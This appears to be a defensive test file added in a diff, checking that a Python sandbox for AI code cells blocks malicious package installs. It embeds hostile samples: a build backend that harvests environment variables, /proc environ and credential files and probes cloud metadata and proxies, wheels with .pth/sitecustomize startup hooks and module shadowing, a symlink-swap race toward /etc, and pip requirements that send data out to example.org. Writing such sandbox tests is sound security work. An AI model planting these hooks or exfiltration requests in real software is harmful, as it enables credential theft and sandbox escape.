@@ -1,0 +1,241 @@
+import { once } from "node:events";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+
+import { errorCodeOf, textOf } from "../helpers/client.ts";
+import { SessionUnderAttack } from "./session-under-attack.ts";
+
+const PASSWORD = "password-of-the-index";
+/** What was asked for, of the user's index and of a server that nobody allowed. */
+const asked: string[] = [];
+let index: Server;
+let attacked: SessionUnderAttack;
+beforeAll(async () => {
+  index = createServer((request, response) => {
+    asked.push(request.url ?? "");
+    response.writeHead(404).end();
+  });
+  index.listen(0, "127.0.0.1");
+  await once(index, "listening");
+  attacked = await SessionUnderAttack.open({
+    args: ["--index-url", `http://user:${PASSWORD}@127.0.0.1:${port()}/simple/`],
+    prepare: (workspace, directory) => {
+      writeFileSync(join(workspace, ".env"), "KEY=secret-of-the-workspace\n");
+      writeFileSync(join(directory.path, "outside.txt"), "outside");
+    },
+    env: { SECRET_OF_SERVER: "secret-of-the-server" },
+  });
+  await attacked.client.text(MAKE_PACKAGES);
+});
+afterAll(async () => {
+  await attacked[Symbol.asyncDispose]();
+  index.close();
+});
+
+const port = () => (index.address() as AddressInfo).port; // a TCP server has one
+const install = (package_name: string) => attacked.client.call("install_package", { package_name });
+
+describe("a package that is built: its build", () => {
+  let loot: Record<string, string>;
+  beforeAll(async () => {
+    const result = await install("./evil");
+    expect(textOf(result)).toContain("Installed evil 1");
+    const read = `import evil; print(open(evil.__file__.replace(".py", ".json")).read())`;
+    loot = JSON.parse(await attacked.client.text(read, { max_output_chars: 1_000_000 })) as Record<string, string>;
+  });
+
+  test.for([
+    ["internet", /^refused/],
+    ["metadata", /^refused/],
+    ["dns", /^refused: gaierror/],
+    ["proxied metadata", /^refused/],
+    ["proxied loopback", /^refused/],
+    ["proxied stranger", /^refused/],
+    ["workspace write", /^refused: OSError: \[Errno 30\]/],
+    ["image write", /^refused: (OSError: \[Errno 30\]|PermissionError)/],
+    ["masked file", /^succeeded: ''$/],
+    ["init's environment", /^refused: (PermissionError|FileNotFoundError)/],
+    ["tools", /^refused: FileNotFoundError/],
+    ["setuid", /^refused: PermissionError/],
+    ["user namespace", /^refused: PermissionError/],
+    ["capabilities", /CapBnd:\\t0000000000000000/],
+  ] as const)("gets nowhere: %s", ([attempt, outcome]) => {
+    expect(loot[attempt]).toMatch(outcome);
+  });
+
+  test("sees no credential and no variable of the server", () => {
+    const everything = JSON.stringify(loot);
+    for (const secret of [PASSWORD, "secret-of-the-server", "secret-of-the-workspace"]) {
+      expect(everything).not.toContain(secret);
+    }
+  });
+
+  test("shares no cache with other installs", () => {
+    expect(loot["caches"]).toMatch(/^succeeded: \[\]$/);
+  });
+});
+
+describe("a package that arrives", () => {
+  test("runs nothing at a kernel's start: neither .pth files nor sitecustomize", async () => {
+    expect(textOf(await install("./startup-1-py3-none-any.whl"))).toContain("Left out: startup.pth");
+    await attacked.client.call("reset");
+    expect(await attacked.tries(`[os.path.exists("/tmp/ran-at-start"), "startup" in sys.modules]`)).toBe(
+      "succeeded: [False, False]",
+    );
+    expect(await attacked.tries(`import startup\nstartup.here`)).toBe("succeeded: True");
+  });
+
+  test("takes no module's place: not the image's, not the standard library's", async () => {
+    await install("./shadow-1-py3-none-any.whl");
+    await attacked.client.call("reset");
+    expect(
+      await attacked.tries(
+        `import numpy, json, ipybox_sandbox\n[m.__file__.startswith("/opt/ipybox/packages") for m in (numpy, json, ipybox_sandbox)]`,
+      ),
+    ).toBe("succeeded: [False, False, False]");
+  });
+
+  test("brings no setuid program", async () => {
+    expect(
+      await attacked.tries(
+        `subprocess.run("find /opt/ipybox/packages/ -perm /6000", shell=True, capture_output=True).stdout`,
+      ),
+    ).toBe("succeeded: b''");
+  });
+
+  test("from outside the workspace, by a path, a link or a link that was swapped in, is refused", async () => {
+    const outside = join(attacked.directory.path, "outside.txt");
+    await attacked.client.text(`os.symlink("${outside}", "link-1-py3-none-any.whl"); os.symlink("/etc", "directory")`);
+    for (const source of [outside, "../outside.txt", "./link-1-py3-none-any.whl", "./directory"]) {
+      const result = await install(source);
+      expect(errorCodeOf(result)).toMatch(/invalid-requirement|install-failed/);
+    }
+    await attacked.client.text(`import subprocess
+swapper = subprocess.Popen([sys.executable, "-c", """
+import os, shutil
+shutil.copytree("evil", "swapped"); os.symlink("/etc", "aside")
+while True: os.rename("swapped", "x"); os.rename("aside", "swapped"); os.rename("swapped", "aside"); os.rename("x", "swapped")
+"""])`);
+    const result = await install("./swapped");
+    await attacked.client.text("swapper.kill(); swapper.wait()");
+    expect(textOf(result)).not.toContain("root:");
+    expect(await attacked.tries(`glob.glob("/opt/ipybox/packages/current/*passwd*")`)).toBe("succeeded: []");
+  });
+});
+
+describe("a cell that installs can't choose where to", () => {
+  test.for([
+    ["a URL that carries data out", `https://example.org/?data=secret`],
+    ["a wheel on a server of its choice", `https://example.org/x-1-py3-none-any.whl`],
+    ["a git host of its choice", `git+https://example.org/x.git`],
+    ["a requirement with a URL", `x @ https://example.org/x-1.tar.gz`],
+    ["a host of the user's own", `http://127.0.0.1:1/x-1.tar.gz`],
+    ["another index", `--index-url https://example.org/simple x`],
+    ["a requirements file", `-r requirements.txt`],
+    ["an editable source", `-e git+https://example.org/x.git#egg=x`],
+  ] as const)("%s", async ([, requirement]) => {
+    const before = asked.length;
+    const result = await attacked.client.cell(`%pip install ${requirement}`);
+    expect(textOf(result)).toMatch(/can't|not admitted|only|refused|option|allow|https/i);
+    expect(asked.slice(before).filter((path) => path.includes("secret"))).toEqual([]);
+  });
+
+  test("and neither can the model, but for public https hosts", async () => {
+    for (const requirement of [
+      "git+ssh://git@example.org/x.git",
+      `git+https://127.0.0.1:${port()}/x.git`,
+      "git+file:///etc",
+      "x @ file:///etc/passwd",
+    ]) {
+      expect((await install(requirement)).isError).toBe(true);
+    }
+    expect(asked.filter((path) => path.includes("x.git"))).toEqual([]);
+  });
+});
+
+test("no credential of the index is anywhere in the workspace or in a cell's answer", async () => {
+  const result = await install("no-such-package-of-the-test");
+  expect(result.isError).toBe(true);
+  expect(JSON.stringify(result)).not.toContain(PASSWORD);
+  expect(asked).toContain("/simple/no-such-package-of-the-test/");
+  expect(existsSync(join(attacked.workspace, "evil.json"))).toBe(false);
+  expect(readFileSync(join(attacked.workspace, ".env"), "utf8")).toBe("KEY=secret-of-the-workspace\n");
+});
+
+/** A source tree whose build attacks, and wheels with what must not be run or replaced. */
+const MAKE_PACKAGES = String.raw`
+import os, zipfile
+def wheel(name, files):
+    with zipfile.ZipFile(f"{name}-1-py3-none-any.whl", "w") as archive:
+        for path, content in files.items(): archive.writestr(path, content)
+        archive.writestr(f"{name}-1.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n")
+        archive.writestr(f"{name}-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        archive.writestr(f"{name}-1.dist-info/RECORD", "".join(f"{path},,\n" for path in files))
+wheel("startup", {"startup.py": "here = True", "startup.pth": "import os; open('/tmp/ran-at-start', 'w')\n",
+                  "sitecustomize.py": "open('/tmp/ran-at-start', 'w')", "usercustomize.py": "open('/tmp/ran-at-start', 'w')"})
+wheel("shadow", {"shadow.py": "", "numpy/__init__.py": "evil = True", "json.py": "evil = True", "ipybox_sandbox/__init__.py": "evil = True"})
+os.makedirs("evil", exist_ok=True)
+open("evil/pyproject.toml", "w").write('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "evil"\nversion = "1"\n')
+open("evil/backend.py", "w").write(r'''
+import ctypes, glob, json, os, pathlib, socket, urllib.request, zipfile
+libc = ctypes.CDLL(None, use_errno=True)
+def tries(action):
+    try:
+        return f"succeeded: {action()!r}"
+    except BaseException as error:
+        return f"refused: {type(error).__name__}: {error}"
+def connected(address, family=socket.AF_INET):
+    with socket.socket(family) as stream:
+        stream.settimeout(3)
+        stream.connect(address)
+        return "connected"
+def proxied(target):
+    """Through whatever forwarder the installer listens on."""
+    ports = {int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/tcp").read().splitlines()[1:] if line.split()[3] == "0A"}
+    answers = []
+    for port in ports:
+        with socket.create_connection(("127.0.0.1", port), 3) as stream:
+            stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+            answers.append(stream.recv(200).decode())
+    if not any(" 200 " in answer.split("\r\n")[0] + " " for answer in answers):
+        raise ConnectionRefusedError(str(answers))
+    return answers
+def checked(result):
+    if result == -1: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+ATTEMPTS = {
+    "environment": lambda: dict(os.environ),
+    "files of ours": lambda: [(p, open(p, errors="replace").read()[:2000]) for p in glob.glob("/run/ipybox/*") + glob.glob(os.path.expanduser("~/.*")) + ["/etc/pip.conf", "/root/.netrc"] if os.path.isfile(p)],
+    "command lines": lambda: [pathlib.Path(p).read_bytes().decode() for p in glob.glob("/proc/[0-9]*/cmdline")],
+    "environments": lambda: [tries(pathlib.Path(p).read_text) for p in glob.glob("/proc/[0-9]*/environ")],
+    "caches": lambda: [p for p in glob.glob("/opt/ipybox/packages/*cache*") + glob.glob("/run/ipybox/*cache*")],
+    "internet": lambda: connected(("1.1.1.1", 443)),
+    "metadata": lambda: connected(("169.254.169.254", 80)),
+    "dns": lambda: socket.getaddrinfo("example.org", 443),
+    "proxied metadata": lambda: proxied("169.254.169.254:80"),
+    "proxied loopback": lambda: proxied("127.0.0.1:22"),
+    "proxied stranger": lambda: proxied("example.org:443"),
+    "workspace write": lambda: open("/workspace/evil.json", "w"),
+    "image write": lambda: open("/opt/ipybox/lib/ipybox_sandbox/x.py", "w"),
+    "masked file": lambda: open("/workspace/.env").read(),
+    "init's environment": lambda: open("/proc/1/environ").read(),
+    "tools": lambda: connected("/run/ipybox/tools.sock", socket.AF_UNIX),
+    "setuid": lambda: os.chmod(__file__, 0o4755),
+    "user namespace": lambda: checked(libc.unshare(0x10000000)),
+    "capabilities": lambda: open("/proc/self/status").read(),
+}
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    loot = {name: tries(action) for name, action in ATTEMPTS.items()}
+    with zipfile.ZipFile(os.path.join(directory, "evil-1-py3-none-any.whl"), "w") as archive:
+        archive.writestr("evil.py", "")
+        archive.writestr("evil.json", json.dumps(loot))
+        archive.writestr("evil-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
+        archive.writestr("evil-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        archive.writestr("evil-1.dist-info/RECORD", "evil.py,,\nevil.json,,\n")
+    return "evil-1-py3-none-any.whl"
+''')
+`;
